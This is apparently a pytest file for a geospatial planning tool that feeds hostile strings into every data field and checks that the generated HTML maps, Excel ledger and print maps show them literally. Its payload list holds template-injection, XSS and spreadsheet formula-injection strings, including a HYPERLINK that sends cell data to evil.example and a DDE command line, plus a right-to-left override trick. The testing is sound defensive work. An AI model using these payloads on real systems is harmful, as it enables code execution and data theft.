"""Hostile text in every data field, pushed into every output: nothing runs, everything shows
literally (HTML maps opened in headless Chromium, the ledger read back, the print map drawn)."""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import geopandas as gpd
import pandas as pd
import pytest
from openpyxl import load_workbook

from spatial.config.project import load_project
from spatial.core import settings
from spatial.core.messages import text
from spatial.outputs.html.write import write_maps
from spatial.outputs.ledger.write import write_ledger
from spatial.text.html import esc, fragment
from spatial.workflow.pipeline import analyse, load_inputs, write_outputs

from ..conftest import open_page

STAGES = ("coverage", "bundle", "sites", "map")


def payloads(tmp_path: Path) -> list[str]:
    """One payload list for every field; the first would create ``tmp_path/pwned`` if evaluated."""
    target = str(tmp_path / "pwned")
    return [
        "{{ cycler.__init__.__globals__.os.makedirs('" + target + "') }}",
        "{{ 7*7 }}",
        "{#",
        "{% raw %}",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "</script>",
        "预算 $x_$",
        "=1+2",
        '=HYPERLINK("http://evil.example/?d="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1",
        "@SUM(1)",
        "[bold]x[/]",
        "\"double\" 'single'",
    ]


def _toml(value: str) -> str:
    return json.dumps(value, ensure_ascii=False)  # a JSON string is a TOML basic string


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> tuple[Path, list[str]]:
    """The demo project with payloads as community names and subdistricts (rows 0–13), build
    years (rows 14–27), facility names, parcel kinds, a [coverage.add] category label and icon,
    the project name, and a data-problem record; all outputs written."""
    root = tmp_path_factory.mktemp("hostile")
    pay = payloads(root)
    joined = " ".join(pay)
    data = root / "data"
    shutil.copytree(settings.DEMO_DIR, data)
    comm = gpd.read_file(data / "communities.gpkg")
    n = len(pay)
    comm.loc[: n - 1, "小区名称"] = pay
    comm.loc[: n - 1, "所属街道"] = pay
    comm.loc[n : 2 * n - 1, "建成年代"] = pay
    comm.to_file(data / "communities.gpkg", driver="GPKG")
    fac = pd.read_csv(data / "facilities.csv", dtype=object)
    fac.loc[: n - 1, "名称"] = pay
    extra = fac.iloc[:3].assign(名称=pay[:3], 类别="custom")
    pd.concat([fac, extra]).to_csv(data / "facilities.csv", index=False)
    parcels = gpd.read_file(data / "parcels.geojson")
    parcels["用地类型"] = [pay[i % n] for i in range(len(parcels))]
    parcels.to_file(data / "parcels.geojson", driver="GeoJSON")
    toml = (data / "project.toml").read_text("utf-8")
    toml = toml.replace('name = "兰山区老旧小区改造（演示数据）"', f"name = {_toml(joined)}")
    toml += (
        f"\n[coverage.add.custom]\nname_zh = {_toml(joined)}\nname_en = {_toml(joined)}\n"
        'radius_m = 500\nicon = "{#"\n'
    )
    (data / "project.toml").write_text(toml, "utf-8")
    project = load_project(data / "project.toml")
    project.render.basemap = "none"
    result = analyse(load_inputs(project), STAGES)
    result.summary["warnings"] = [
        {"code": "bad_year", "layer": "communities", "message": joined, "count": n,
         "sample": pay},
    ]  # fmt: skip
    write_outputs(result, root / "out", STAGES, "zh", strict_print=True)
    return root, pay


@pytest.mark.slow
def test_no_payload_runs_and_the_print_map_is_drawn(hostile):
    root, _ = hostile
    assert not (root / "pwned").exists()
    out = root / "out"
    names = {p.name for p in out.iterdir()}
    assert {"overview.html", "elderly.html", "ledger.xlsx", "overview.png", "overview.pdf"} <= names
    assert (out / "overview.png").stat().st_size > 100_000


_COLLECT = """() => {
  const map = window[Object.keys(window).find(k => k.startsWith('map_'))];
  const texts = [];
  const layers = [];
  map.eachLayer(l => layers.push(l));
  for (const l of layers) {
    if (!l.feature) continue;
    const at = l.getLatLng ? l.getLatLng() : l.getBounds().getCenter();
    l.fire('mouseover', {latlng: at}, true);
    document.querySelectorAll('.leaflet-tooltip').forEach(t => texts.push(t.innerText));
    l.fire('mouseout', {latlng: at}, true);
    if (l.feature.properties.popup) {
      l.fire('click', {latlng: at}, true);
      texts.push(document.querySelector('.leaflet-popup-content').innerText);
      map.closePopup();
    }
  }
  document.querySelectorAll('.leaflet-marker-icon').forEach(m => texts.push(m.innerText));
  return texts;
}"""


def test_html_shows_every_payload_literally_and_runs_none(hostile, browser, tmp_path):
    root, pay = hostile
    joined = " ".join(pay)
    page, errors, blocked, dialogs = open_page(
        browser, root / "out" / "overview.html", tmp_path / "o.png"
    )
    assert dialogs == [] and errors == [] and blocked == []
    texts = page.evaluate(_COLLECT)
    shown = "\n".join(texts)
    for p in pay:  # names, subdistricts, build years in popups; facility and site tooltips
        assert p in shown, p
        assert any(t.startswith(p + "\n") for t in texts), p  # a community popup titled by it
    assert f"{joined} (3)" in page.locator("#lc-legend").inner_text()  # [coverage.add] label
    assert "{#" in texts  # its icon, as text
    assert page.locator("#lc-title").inner_text().startswith(joined)
    overlays = page.locator(".leaflet-control-layers-overlays").inner_text()
    assert f"公共服务设施: {joined}" in overlays
    note = text("zh", "map_warnings_note", count=1)
    assert note in page.locator("#lc-headline").inner_text()
    page.close()
    page, errors, _, dialogs = open_page(browser, root / "out" / "elderly.html", tmp_path / "e.png")
    assert dialogs == [] and errors == []
    assert page.locator("#lc-title").inner_text().startswith(joined)
    page.close()


def test_ledger_holds_text_never_formulas(hostile):
    root, pay = hostile
    book = load_workbook(root / "out" / "ledger.xlsx")
    assert book.sheetnames[:4] == ["汇总", "数据问题", "未计入的设施", "小区台账"]
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    by_value: dict[str, list] = {}
    for c in cells:
        if isinstance(c.value, str):
            by_value.setdefault(c.value, []).append(c)
    for p in pay:
        assert p in by_value, p
        assert all(c.data_type == "s" for c in by_value[p])
        if p[0] in "=+-@":
            assert all(c.quotePrefix for c in by_value[p])
    sheet = book["小区台账"]
    heads = [c.value for c in sheet[1]]
    households = [r[heads.index("户数")] for r in sheet.iter_rows(min_row=2)]
    assert all(c.data_type == "n" and isinstance(c.value, int) for c in households)
    problems = book["数据问题"]
    assert [c.value for c in problems[1]] == [
        "问题代码",
        "图层",
        "说明",
        "数量",
        "示例（编号或值）",
    ]
    row = [c.value for c in problems[2]]
    assert row == ["bad_year", "communities", " ".join(pay), len(pay), "、".join(pay)]


def test_no_warnings_no_note_and_no_sheet(small_project, tmp_path):
    project = load_project(small_project)
    project.render.basemap = "none"
    result = analyse(load_inputs(project), ("coverage",))
    result.summary["warnings"] = []
    write_maps(result, tmp_path, "en")
    write_ledger(result, tmp_path, "en")
    assert load_workbook(tmp_path / "ledger.xlsx").sheetnames == [
        "Summary",
        "Communities",
        "Subdistricts",
        "Capacity gaps",
    ]
    assert "data problems" not in (tmp_path / "overview.html").read_text("utf-8")
    result.summary["warnings"] = [{"code": "x", "layer": "facilities", "message": "m", "count": 2,
                                   "sample": ["F1", "F2"]}]  # fmt: skip
    write_maps(result, tmp_path, "en")
    write_ledger(result, tmp_path, "en")
    sheet = load_workbook(tmp_path / "ledger.xlsx")["Data problems"]
    assert [[c.value for c in row] for row in sheet.iter_rows(min_row=2)] == [
        ["x", "facilities", "m", 2, "F1, F2"]
    ]
    note = text("en", "map_warnings_note", count=1)
    assert str(esc(note)) in (tmp_path / "overview.html").read_text("utf-8")


def test_page_html_is_a_value_never_a_template():
    from spatial.outputs.html.leaflet import HtmlElement
    from spatial.text.html import Html, fragment

    assert HtmlElement(Html("{{ 7*7 }}{# x")).render() == "{{ 7*7 }}{# x"
    assert str(fragment("<b>{}</b>", "{{ 7*7 }}")) == "<b>&#123;&#123; 7*7 &#125;&#125;</b>"
    with pytest.raises(TypeError):
        HtmlElement("<b>plain str</b>")


def test_bidi_override_in_a_name_is_closed_inside_the_name():
    """A community named ``\\u202etxt.exe`` (right-to-left override) made Chromium show the text
    after it backwards: "— 片区 B06 (12 户)" read "(户 21) 60B 区片 —". Every text from the data
    now closes what it opens (PDF for an override or embedding, PDI for an isolate)."""
    card = str(fragment("<b>{}</b> B06 (12)", "\u202etxt.exe"))
    assert card == "<b>\u202etxt.exe\u202c</b> B06 (12)"
    assert str(esc("\u2067a\u202bb")) == "\u2067a\u202bb\u2069\u202c"  # isolate first, then PDF
    assert str(esc("\u202e\u202c\u202e<i>")) == "\u202e\u202c\u202e&lt;i&gt;\u202c\u202c"
    assert str(esc("兰山 A&B {x}")) == "兰山 A&amp;B &#123;x&#125;"  # no bidi: as before
